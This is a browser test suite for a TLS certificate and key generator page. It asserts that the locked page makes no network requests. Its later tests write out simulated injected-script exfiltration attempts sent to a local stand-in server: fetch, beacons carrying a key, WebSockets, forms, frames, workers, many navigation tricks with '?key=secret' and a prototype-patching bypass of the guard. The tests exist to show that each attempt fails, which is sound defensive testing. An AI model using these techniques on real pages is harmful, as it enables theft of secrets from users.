// Nothing leaves the page once it has loaded: not while it is used, and not
// when a script inside it tries.

import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { createServer as createHost } from 'node:http';
import { createServer } from 'node:net';
import { join } from 'node:path';
import { test } from 'node:test';
import { pathToFileURL } from 'node:url';

import { blank, dist, folder, lacking, serveChanged, stage } from './browser.mjs';
import { firefox, geckodriver, until } from './firefox.mjs';
import { run } from './judges.mjs';
import {
  addFile, bringCa, checked, choose, drop, example, fileTab, fileText, forgetCa, fragmentOf, green, locked, node, notice, open, paste, planned, regenerate, reveal, saveAll,
  savePlan, selectEdge, takeOwn, wipe,
} from './tab.mjs';

const scene = stage();

// Everything that a page asks for from now on, by the server's log and by the
// browser's own events: what its policy stopped would be among them. What it
// makes itself is asked of nobody.
function asked(page) {
  const before = scene.site.log.length;
  const events = [];
  const note = (request) => /^(blob|data):/.test(request.url()) || events.push(request.url());
  page.context().on('requestfinished', note);
  page.context().on('requestfailed', note);
  return () => ({ log: scene.site.log.slice(before), events });
}

const uses = {
  'typing and choosing': async (page) => {
    await choose(page, 'cluster.name', 'metrics');
    await choose(page, 'cluster.name', 'Not A Name');
    await choose(page, 'cluster.name', 'metrics');
    for (const mode of ['read-write', 'monolithic', 'microservices']) await choose(page, 'mode', mode);
    await choose(page, 'policy.http', 'RequireAndVerifyClientCert');
    await choose(page, 'certificates.algorithm', 'rsa-2048');
    await green(page);
  },
  'going through the cluster': async (page) => {
    await node(page, 'querier').click();
    await selectEdge(page, 'querier', 'store-gateway');
    await page.keyboard.press('Escape');
  },
  'reading and copying files': async (page) => {
    for (const name of [/^YAML/, /^Certificates/, /^Plan and proof/, /^Keys/, /^Flags/]) await fileTab(page, name).click();
    await fileText(page, 'yaml/querier.yaml');
    await page.getByRole('button', { name: 'Copy yaml/querier.yaml' }).click();
    await page.getByRole('status').filter({ hasText: 'yaml/querier.yaml copied' }).waitFor();
  },
  'showing, making and wiping keys': async (page) => {
    await reveal(page, 'ca/root.key');
    await regenerate(page, { sure: true });
    await green(page);
    await wipe(page);
    await page.getByRole('region', { name: 'Files' }).getByRole('button', { name: 'Make new keys' }).click();
    await green(page);
  },
  'a CA of one\'s own': async (page, t) => {
    const into = folder(t);
    await run('openssl', [
      'req', '-x509', '-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:P-256', '-nodes', '-subj', '/CN=mine',
      '-keyout', join(into, 'ca.key'), '-out', join(into, 'ca.crt'), '-addext', 'keyUsage=critical,keyCertSign',
    ]);
    await bringCa(page, join(into, 'ca.crt'), join(into, 'ca.key'));
    await green(page);
    await forgetCa(page);
    await green(page);
  },
  'a CA that others keep, and a passphrase': async (page, t) => {
    const archive = join(folder(t), 'requests.zip');
    await page.getByRole('radio', { name: 'A CA that others keep' }).check();
    const download = page.waitForEvent('download');
    await page.locator('.verdict').getByRole('button', { name: 'Download requests (.zip)' }).click();
    await (await download).saveAs(archive);
    await drop(page, 'requests.zip', readFileSync(archive));
    await page.getByRole('alert').filter({ hasText: 'no certificate came back for its key' }).waitFor();
    await page.getByRole('radio', { name: 'A CA made here' }).check();
    await page.getByRole('checkbox', { name: 'Put its key under a passphrase' }).check();
    for (const name of ['Passphrase', 'The same again']) await page.getByLabel(name, { exact: true }).fill('open sesame');
    await saveAll(page, archive);
    await page.getByRole('checkbox', { name: 'Put its key under a passphrase' }).uncheck();
  },
  'downloading, and a plan that comes back': async (page, t) => {
    const into = folder(t);
    await saveAll(page, join(into, 'all.zip'));
    await savePlan(page, join(into, 'plan.yaml'));
    await drop(page, 'plan.yaml', readFileSync(join(into, 'plan.yaml'), 'utf8'));
    await notice(page);
    await green(page);
  },
  'the second door': async (page) => {
    await page.getByRole('button', { name: 'Check what you have' }).click();
    await example(page);
    await page.getByRole('button', { name: /^Fix all safe ones/ }).click();
    await page.getByRole('button', { name: 'Take the fix back' }).waitFor();
    await checked(page);
    await addFile(page);
    await paste(page, 'level=error err="remote error: tls: bad certificate"');
    await page.getByRole('button', { name: 'Take it over as a plan' }).click();
    await green(page);
  },
  'the third door': async (page, t) => {
    await takeOwn(page);
    await page.getByRole('radio', { name: 'A new CA, made here' }).check();
    await planned(page);
    await page.locator('.track').getByRole('tab').last().click();
    const download = page.waitForEvent('download');
    await page.locator('.change').getByRole('button', { name: 'Download all (.zip)' }).click();
    const archive = join(folder(t), 'change.zip');
    await (await download).saveAs(archive);
    await drop(page, 'change.zip', readFileSync(archive));
    await page.getByRole('alert').filter({ hasText: 'there are several folders' }).waitFor();
    await page.getByRole('button', { name: 'Make a plan' }).click();
  },
  'languages, colours, back and forward': async (page) => {
    await page.getByRole('combobox', { name: 'Colours' }).selectOption('dark');
    await page.getByRole('button', { name: 'Deutsch' }).click();
    await page.getByRole('button', { name: 'English' }).click();
    await page.goBack();
    await page.goForward();
    await page.evaluate((fragment) => (location.hash = fragment), fragmentOf({ mode: 'monolithic' }));
    await green(page);
  },
};

test('nothing is asked for once the padlock is closed, whatever is used', async (t) => {
  const page = await open(t, scene);
  await green(page);
  const since = asked(page);
  for (const [what, use] of Object.entries(uses)) {
    await use(page, t);
    assert.deepEqual(since(), { log: [], events: [] }, what);
  }
});

test('what counts the requests can see one', async (t) => {
  const page = await open(t, scene);
  const since = asked(page);
  await page.reload();
  assert.ok(since().events.length > 0);
});

// A door in another origin that counts who says something. A browser may open
// a connection for what a policy then forbids; nothing is said over it.
async function door(t) {
  const knocks = [];
  const server = createServer((socket) => {
    socket.on('data', (said) => {
      knocks.push(said.toString());
      socket.destroy();
    });
    socket.on('error', () => {});
  });
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
  t.after(() => server.close());
  server.on('connection', (socket) => t.after(() => socket.destroy()));
  return { address: `127.0.0.1:${server.address().port}`, knocks };
}

// What a script that got into the page could try. Each says whether it came through.
const attempts = {
  fetch: (host) => fetch(`http://${host}/`, { mode: 'no-cors' }).then(() => true, () => false),
  XMLHttpRequest: (host) =>
    new Promise((resolve) => {
      const request = new XMLHttpRequest();
      request.onload = () => resolve(true);
      request.onerror = () => resolve(false);
      request.open('GET', `http://${host}/`);
      request.send();
    }),
  image: (host) =>
    new Promise((resolve) => {
      const image = new Image();
      image.onload = () => resolve(true);
      image.onerror = () => resolve(false);
      image.src = `http://${host}/x.png`;
    }),
  // The browser may well say that it has queued the beacon; the door knows better.
  beacon: (host) => void navigator.sendBeacon(`http://${host}/`, 'key'),
  WebSocket: (host) =>
    new Promise((resolve) => {
      const socket = new WebSocket(`ws://${host}/`);
      socket.onopen = () => resolve(true);
      socket.onerror = () => resolve(false);
    }),
  EventSource: (host) =>
    new Promise((resolve) => {
      const source = new EventSource(`http://${host}/`);
      source.onopen = () => resolve(true);
      source.onerror = () => resolve(source.close() ?? false);
    }),
  form: (host) => {
    const form = document.createElement('form');
    form.action = `http://${host}/`;
    form.method = 'post';
    document.body.append(form);
    form.submit();
    form.remove();
  },
  frame: (host) => {
    const frame = document.createElement('iframe');
    frame.src = `http://${host}/`;
    document.body.append(frame);
  },
  stylesheet: (host) => {
    const link = document.createElement('link');
    link.rel = 'stylesheet';
    link.href = `http://${host}/x.css`;
    document.head.append(link);
  },
  prefetch: (host) => {
    const link = document.createElement('link');
    link.rel = 'prefetch';
    link.href = `http://${host}/x`;
    document.head.append(link);
  },
};

for (const [name, attempt] of Object.entries(attempts)) {
  test(`an injected ${name} fails, in another origin and in its own`, async (t) => {
    const page = await open(t, scene);
    const { address, knocks } = await door(t);
    const asked = scene.site.log.length;
    const own = new URL(scene.site.origin).host;
    for (const host of [address, own]) {
      assert.notEqual(await page.evaluate(attempt, host), true, host);
    }
    await page.waitForTimeout(500);
    assert.deepEqual(knocks, []);
    assert.deepEqual(scene.site.log.slice(asked), []);
    assert.equal(new URL(page.url()).host, own);
  });
}

test('an injected script does not run', async (t) => {
  const page = await open(t, scene);
  const { address, knocks } = await door(t);
  const threw = await page.evaluate((host) => {
    const script = document.createElement('script');
    try {
      script.src = `http://${host}/x.js`;
    } catch (error) {
      return error.name;
    }
    document.head.append(script);
    return 'nothing';
  }, address);
  assert.equal(threw, 'TypeError', 'Trusted Types refuse the address');
  assert.deepEqual(knocks, []);
});

test('text never becomes markup', async (t) => {
  const page = await open(t, scene);
  const threw = await page.evaluate(() => {
    try {
      document.body.innerHTML = '<img src=x>';
    } catch (error) {
      return error.name;
    }
    return 'nothing';
  });
  assert.equal(threw, 'TypeError');
});

for (const name of ['fetch', 'WebSocket', 'XMLHttpRequest', 'EventSource']) {
  test(`in the worker, an injected ${name} fails`, async (t) => {
    const page = await open(t, scene);
    const { address, knocks } = await door(t);
    const [worker] = page.workers();
    assert.equal(await worker.evaluate(attempts[name], address), false);
    await page.waitForTimeout(200);
    assert.deepEqual(knocks, []);
  });
}

test('a worker made later, or one that the worker makes, cannot connect either', async (t) => {
  const page = await open(t, scene);
  const { address, knocks } = await door(t);
  const text = `fetch('http://${address}/', { mode: 'no-cors' })`;
  const make = (text) => {
    try {
      new Worker(URL.createObjectURL(new Blob([text])));
      return 'made';
    } catch (error) {
      return error.name;
    }
  };
  assert.equal(await page.evaluate(make, text), 'TypeError');
  await page.workers()[0].evaluate(make, text);
  await page.waitForTimeout(500);
  assert.deepEqual(knocks, []);
});

// What is asked for when no key exists yet may come while keys are made; what is
// asked for later is stopped.
for (const layer of ['doctor', 'doors']) test(`the layer ${layer} is asked for before the lock, and may arrive behind it`, async (t) => {
  const page = await blank(t, scene, { serviceWorkers: 'block' });
  let send;
  const held = new Promise((resolve) => (send = resolve));
  await page.route(`**/${layer}_bg.wasm`, async (route) => {
    await held;
    await route.continue();
  });
  await page.goto(`${scene.site.origin}/`);
  await green(page);
  assert.equal(await page.evaluate(attempts.fetch, new URL(scene.site.origin).host), false);
  assert.equal(await page.locator('.lock:is([data-lock="closed"], [data-lock="partly"])').count(), 0);
  send();
  await locked(page);
  await uses['the second door'](page);
});

test('what one checks is read by a worker of its own, which cannot connect either', async (t) => {
  const page = await open(t, scene);
  const { address, knocks } = await door(t);
  assert.equal(page.workers().length, 1);
  await page.getByRole('button', { name: 'Check what you have' }).click();
  await example(page);
  assert.equal(page.workers().length, 2);
  for (const worker of page.workers()) assert.equal(await worker.evaluate(attempts.fetch, address), false);
  await page.waitForTimeout(200);
  assert.deepEqual(knocks, []);
});

// --- leaving --------------------------------------------------------------------

// Another host, which counts who asks with a key. It answers as an address does
// that leaves the page where it is, and as one that does not.
async function stranger(t) {
  const heard = [];
  const server = createHost((request, response) => {
    const { pathname, searchParams } = new URL(request.url, 'http://stranger');
    if (searchParams.has('key')) heard.push(pathname);
    if (pathname === '/nothing') response.writeHead(204).end();
    else if (pathname === '/file') response.writeHead(200, { 'Content-Disposition': 'attachment' }).end('a file');
    else response.writeHead(200, { 'Content-Type': 'text/html' }).end('a page');
  });
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
  t.after(() => {
    server.closeAllConnections();
    server.close();
  });
  return { to: (answer) => `http://127.0.0.1:${server.address().port}/${answer}?key=secret`, heard };
}

// What a script that got into the page could do with an address that carries a
// key, and what stops it, where one of them is enough.
const waysOut = {
  'location': ['guard', (address) => void (location.href = address)],
  'location.assign': ['guard', (address) => location.assign(address)],
  'location.replace': ['guard', (address) => location.replace(address)],
  'navigation.navigate': ['guard', (address) => void navigation.navigate(address)],
  'window.open': ['sandbox', (address) => void window.open(address)],
  'window.open without an opener': ['sandbox', (address) => void window.open(address, '_blank', 'noopener')],
  'window.open into itself': ['guard', (address) => void window.open(address, '_self')],
  'window.open of a frame': ['sandbox', (address) => void madeFrame().contentWindow.open(address)],
  'window.open of a frame, in the name of the page': ['sandbox', (address) => void madeFrame().contentWindow.open.call(window, address)],
  'a link': ['guard', (address) => pressed(document, { href: address })],
  'a link to a new tab': ['sandbox', (address) => pressed(document, { href: address, target: '_blank' })],
  'a link to a new tab, from a frame': ['sandbox', (address) => pressed(madeFrame().contentDocument, { href: address, target: '_blank' })],
  '_top by its location, from a frame': ['guard', (address) => void (madeFrame().contentWindow.top.location.href = address)],
  '_top by call, from a frame': ['guard', (address) => void madeFrame().contentWindow.open(address, '_top')],
  '_top by a link, from a frame': ['guard', (address) => pressed(madeFrame().contentDocument, { href: address, target: '_top' })],
  '_parent by a link, from a frame': ['guard', (address) => pressed(madeFrame().contentDocument, { href: address, target: '_parent' })],
  'a download': ['guard', (address) => pressed(document, { href: address, download: 'x' })],
  'a download by an area': ['guard', (address) => pressed(document, { href: address, download: 'x' }, 'area')],
  'a download into _top, from a frame': ['guard', (address) => pressed(madeFrame().contentDocument, { href: address, download: 'x', target: '_top' })],
  'a download from a frame': ['policy', (address) => pressed(madeFrame().contentDocument, { href: address, download: 'x' })],
  'the location of a frame': ['policy', (address) => void (madeFrame().contentWindow.location.href = address)],
  'a refresh': ['guard', (address) => refreshed(document, address)],
  'a refresh in a frame': ['policy', (address) => refreshed(madeFrame().contentDocument, address)],
  'a page of its own making, which leads on': ['guard', (address) => void (location.href = pageTo(address))],
  'a page of its own making, downloaded and then gone to': [
    'guard',
    (address) => {
      const made = pageTo(address);
      pressed(document, { href: made, download: 'x' });
      location.href = made;
    },
  ],
  // The last, since the page is not the same afterwards.
  'location, with prototypes patched': [
    'guard',
    (address) => {
      const say = (type, name, value) => Object.defineProperty(type.prototype, name, { get: () => value });
      Event.prototype.preventDefault = () => {};
      Reflect.apply = () => true;
      String.prototype.slice = () => 'blob:';
      String.prototype.indexOf = () => -1;
      Set.prototype.has = () => true;
      say(NavigateEvent, 'navigationType', 'reload');
      say(NavigateEvent, 'downloadRequest', '');
      say(NavigationDestination, 'sameDocument', true);
      say(NavigationDestination, 'url', location.href);
      navigation.addEventListener('navigate', (event) => event.stopImmediatePropagation(), true);
      location.href = address;
    },
  ],
};

// What the ways out have in common.
const tools = () => {
  globalThis.madeFrame = () => document.body.appendChild(document.createElement('iframe'));
  globalThis.pressed = (within, properties, tag = 'a') => {
    const link = Object.assign(within.createElement(tag), properties);
    within.body.append(link);
    link.click();
  };
  globalThis.leadingTo = (address) => `<meta http-equiv="refresh" content="0;url=${address}">`;
  globalThis.pageTo = (address) => URL.createObjectURL(new Blob([leadingTo(address)], { type: 'text/html' }));
  globalThis.refreshed = (within, address) => {
    const meta = Object.assign(within.createElement('meta'), { httpEquiv: 'refresh', content: `0;url=${address}` });
    within.head.append(meta);
  };
};

// Tries a way out, and gives an answer the time to be asked for.
async function leave(page, way, address) {
  await page.evaluate(tools);
  // Who leaves answers nobody.
  await page.evaluate(way, address).catch(() => {});
  await page.waitForTimeout(400);
}

for (const [name, [, way]] of Object.entries(waysOut)) {
  test(`no key leaves by ${name}`, async (t) => {
    const page = await open(t, scene);
    const { to, heard } = await stranger(t);
    const before = page.url();
    for (const answer of ['nothing', 'file', 'page']) await leave(page, way, to(answer));
    assert.deepEqual(heard, []);
    assert.equal(page.url(), before);
    assert.equal(page.context().pages().length, 1);
  });
}

test('what the page saves is never shown as a page, which would lead on', async (t) => {
  const page = await open(t, scene);
  const { to, heard } = await stranger(t);
  const before = page.url();
  const way = (address) => {
    HTMLAnchorElement.prototype.click = function () {
      location.href = this.href;
    };
    mimirTls.save('x', leadingTo(address));
  };
  await leave(page, way, to('page'));
  assert.deepEqual(heard, []);
  assert.equal(page.url(), before);
});

test('no key leaves Firefox either', { timeout: 300_000 }, async (t) => {
  if (!geckodriver()) return lacking(t, 'geckodriver');
  const page = await firefox(t);
  await page.open(scene.site.origin);
  await page.find('//button[@data-lock="closed" or @data-lock="partly"]');
  const { to, heard } = await stranger(t);
  const before = await page.run('return location.href');
  await page.run(`(${tools})()`);
  for (const [name, [stoppedBy, way]] of Object.entries(waysOut)) {
    if (stoppedBy !== 'guard') continue;
    for (const answer of ['nothing', 'file', 'page']) await page.run(`(${way})(arguments[0])`, to(answer)).catch(() => {});
    await new Promise((resolve) => setTimeout(resolve, 400));
    assert.deepEqual(heard, [], name);
    assert.equal(await page.run('return location.href'), before, name);
  }
});

// The policy of the locked page, and nothing else.
async function onlyPolicy(t) {
  const policy = /const lockedPolicy =\s*"([^"]*)" \+\s*"([^"]*)"/.exec(readFileSync(join(dist, 'boot.js'), 'utf8')).slice(1).join('');
  const server = createHost((_, response) => {
    response.writeHead(200, { 'Content-Type': 'text/html', 'Content-Security-Policy': policy }).end('<!doctype html><title>only the policy</title><body></body>');
  });
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
  t.after(() => {
    server.closeAllConnections();
    server.close();
  });
  const page = await blank(t, scene);
  await page.goto(`http://127.0.0.1:${server.address().port}/`);
  return page;
}

for (const [name, [stoppedBy, way]] of Object.entries(waysOut)) {
  test(`the policy alone ${stoppedBy === 'policy' ? 'stops' : 'does not stop'} ${name}`, async (t) => {
    const page = await onlyPolicy(t);
    const { to, heard } = await stranger(t);
    await leave(page, way, to('nothing'));
    // What nothing stops comes when it comes; what is stopped never does.
    if (stoppedBy !== 'policy') await until(() => heard.length > 0, 'the stranger to be asked');
    assert.deepEqual(heard, stoppedBy === 'policy' ? [] : ['/nothing']);
  });
}

test('in the offline file, which has no header, the guard stops all but new tabs', async (t) => {
  const page = await blank(t, scene);
  const { to, heard } = await stranger(t);
  await page.goto(pathToFileURL(join(dist, 'mimir-tls-offline.html')).href);
  await locked(page);
  for (const [name, [stoppedBy, way]] of Object.entries(waysOut)) {
    if (stoppedBy === 'sandbox') continue;
    await leave(page, way, to('nothing'));
    assert.deepEqual(heard, [], name);
  }
});

test('the own host hears of no key either, by an address that a reload would send', async (t) => {
  const page = await open(t, scene);
  const before = page.url();
  for (const step of ['pushState', 'replaceState']) {
    await page.evaluate((step) => history[step](null, '', '/secret'), step);
    assert.equal(page.url(), before, step);
  }
  await page.evaluate(() => location.replace('/secret'));
  await page.waitForTimeout(400);
  assert.deepEqual(scene.site.log.filter((line) => line.includes('secret')), []);
});

test('the page reloads itself, and is locked again', async (t) => {
  const page = await open(t, scene, { fragment: fragmentOf({ mode: 'monolithic' }) });
  await page.evaluate(() => void (globalThis.stale = true));
  await Promise.all([page.waitForEvent('load'), page.evaluate(() => location.reload())]);
  await locked(page);
  await green(page);
  assert.equal(await page.evaluate(() => globalThis.stale), undefined);
  assert.match(page.url(), /mode=monolithic$/);
});

test('whoever opened the page can leave it', async (t) => {
  const { to } = await stranger(t);
  const page = await blank(t, scene);
  await page.goto(to('before'));
  await page.goto(scene.site.origin);
  await locked(page);
  await page.locator('.verdict').click();
  await page.goBack();
  assert.equal(page.url(), to('before'));
  await page.goForward();
  await locked(page);
  await page.goto(to('after'));
  assert.equal(page.url(), to('after'));
});

// --- what the padlock says ------------------------------------------------------

const withoutNavigation = () => delete globalThis.NavigateEvent;

const locks = {
  'both hold': [{}, 'Locked: every connection is forbidden', 'Verriegelt: jede Verbindung ist verboten', 'both hold', 'gilt beides'],
  'a host sends no headers': [
    { headers: '' },
    ...['Locked: connections are forbidden, new tabs are not', 'Verriegelt: Verbindungen sind verboten, neue Tabs nicht'],
    ...['the sandbox is missing', 'die Sandbox fehlt'],
  ],
  'a browser has no Navigation API': [
    { script: withoutNavigation },
    ...['Locked: connections are forbidden, leaving is not', 'Verriegelt: Verbindungen sind verboten, Weggehen nicht'],
    ...['the guard is missing', 'der Wächter fehlt'],
  ],
  'neither is there': [
    { headers: '', script: withoutNavigation },
    ...['Locked: connections are forbidden, leaving is not', 'Verriegelt: Verbindungen sind verboten, Weggehen nicht'],
    ...['neither holds', 'gilt keines'],
  ],
};

for (const [name, [{ headers, script }, ...said]] of Object.entries(locks)) {
  test(`the padlock says what holds, where ${name}`, async (t) => {
    const site = headers === undefined ? scene.site : await serveChanged(t, { _headers: headers });
    for (const [at, lang] of ['en', 'de'].entries()) {
      const page = await blank(t, scene);
      if (script) await page.addInitScript(script);
      await page.goto(`${site.origin}/${fragmentOf({ lang })}`);
      await locked(page);
      await page.getByRole('button', { name: said[at] }).click();
      const now = page.getByRole('dialog').locator('[data-now]:visible');
      assert.equal(await now.count(), 1);
      assert.match(await now.innerText(), new RegExp(said[at + 2]));
    }
  });
}

test('the padlock\'s page has no link that leads away', async (t) => {
  const page = await open(t, scene);
  await page.locator('.lock').click();
  const told = page.getByRole('dialog').locator('article:visible');
  await told.getByText(`${scene.site.origin}/mimir-tls-offline.html`).waitFor();
  assert.equal(await told.locator('a').count(), 0);
});
